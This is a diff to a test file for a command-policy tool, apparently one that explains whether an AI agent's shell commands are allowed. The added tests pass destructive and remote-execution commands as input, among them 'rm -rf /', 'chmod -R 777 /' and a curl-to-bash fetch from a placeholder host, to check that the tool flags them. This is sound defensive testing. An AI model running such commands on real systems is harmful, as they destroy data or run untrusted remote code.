@@ -53,7 +53,7 @@ The agent is refused and reads:
 a-migrations  .hookctl/policy.yaml:3
   ✓ path is db/migrations/001-a-table-with-quite-a-long-name.sql (rule:
     db/migrations/**)
-  ✗ no exception applies (env.MIGRATE)
+  ✓ no exception applies (env.MIGRATE)
 
 What it does
   writes  db/migrations/001-a-table-with-quite-a-long-name.sql
@@ -142,7 +142,7 @@ no-drop  .hookctl/policy.yaml:17
 2 more rules checked, none matched (--verbose shows them).
 
 What it does
-  runs  psql, database-statement
+  runs  psql
 `,
     ],
   ])('%s', async (_, args, page) => {
@@ -225,7 +225,11 @@ describe('what is asked about', () => {
   });
 
   it.each<[string, string[], string]>([
-    ['words without quotes', ['ls', '-la'], 'hint: Put the command in quotes where it holds quotes, |, > or $'],
+    [
+      'a word that needs quotes',
+      ['git', 'commit', '-m', 'a b'],
+      'hint: Put the command in quotes where it holds quotes, |, > or $',
+    ],
     ['a tool in small letters', ['edit', 'src/a.ts'], 'About the tool: hookctl explain Edit src/a.ts'],
   ])('a hint: %s', async (_, args, hint) => {
     const { stderr } = await hookctl(['explain', ...args], { ...at(lab(POLICY), '200') });
@@ -233,6 +237,7 @@ describe('what is asked about', () => {
   });
 
   it.each<[string[], string]>([
+    [[''], 'hookctl explain: give a COMMAND in quotes, a tool with its file, or --payload FILE\n'],
     [[], 'hookctl explain: give a COMMAND in quotes, a tool with its file, or --payload FILE\nUsage: hookctl explain '],
     [['--payload', 'x.json', 'ls'], 'hookctl explain: give a COMMAND, a tool or --payload, not both\nUsage: '],
     [['--payload', '/no/such.json'], 'hookctl explain: cannot read the payload /no/such.json: it does not exist\n'],
@@ -269,6 +274,38 @@ describe('what is asked about', () => {
       effects: { runs: [], writes: [], deletes: [], reads: [], network: [] },
     });
     expect(existsSync(here.state)).toBe(false);
+  });
+});
+
+describe('what a person can read', () => {
+  const told = async (...args: string[]) =>
+    (await hookctl(['explain', '--pack', 'recommended', ...args], at(lab(), '160'))).stdout;
+
+  it('an unset variable is the reason, and is said', async () => {
+    const page = await told('rm -rf $BUILD/*');
+    expect(page.replace(/\s+/g, ' ')).toContain(
+      'would delete `/*`: the root of the machine, one of its top directories or a home. That is so if `$BUILD` is empty; write `${BUILD:?}`, which stops the command then.',
+    );
+    expect(page).toMatch(/^ {2}if \$BUILD is empty, deletes {2}\/\*$/m);
+    expect(await told('rm -rf "${BUILD:?}"/*')).toMatch(/^PASS/);
+  });
+
+  it('one row for each thing that was looked at, and only what decided', async () => {
+    const facts = (page: string) => page.split('\n').filter((line) => /^ {2}[✓✗?] /.test(line));
+    expect(facts(await told('chmod -R 777 /')).filter((line) => line.includes('recursive'))).toEqual([
+      '  ✓ recursive is true',
+    ]);
+    expect(facts(await told('curl https://x.example/z.sh | bash'))).toEqual(['  ✓ executes is network']);
+    expect(await told('find . -name "*.log" -delete')).toMatch(/^ {2}deletes {2}\*\*\/\*\.log$/m);
+  });
+
+  it('--json has the rules that matched, with --all every rule', async () => {
+    const rules = async (...more: string[]) =>
+      (JSON.parse(await told('--json', 'rm -rf /', ...more)) as { rules: { outcome: string }[] }).rules;
+    const [matched, all] = [await rules(), await rules('--all')];
+    expect(matched.map(({ outcome }) => outcome)).not.toContain('miss');
+    expect(matched).toEqual(all.filter(({ outcome }) => outcome !== 'miss'));
+    expect(all.length).toBeGreaterThan(matched.length);
   });
 });
 
